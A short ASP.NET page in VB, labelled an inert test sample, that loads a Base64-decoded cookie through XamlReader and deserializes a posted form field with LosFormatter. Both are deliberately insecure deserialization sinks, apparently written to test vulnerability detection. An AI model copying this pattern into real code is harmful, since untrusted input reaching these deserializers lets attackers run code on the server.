<%@ Page Language="VB" %>
<script runat="server">
' inert test sample: a Base64 cookie decoded to a stream and loaded as XAML, the reader named in
' full; a formatter declared apart rebuilds the posted view state
Sub Page_Load(sender As Object, e As EventArgs)
    Dim raw As Byte() = Convert.FromBase64String(Request.Cookies("pref").Value)
    Dim ms As New System.IO.MemoryStream(raw)
    Dim o As Object = System.Windows.Markup.XamlReader.Load(ms)
    Dim f As New System.Web.UI.LosFormatter()
    Dim st As Object = f.Deserialize(Request.Form("__STATE"))
End Sub
</script>
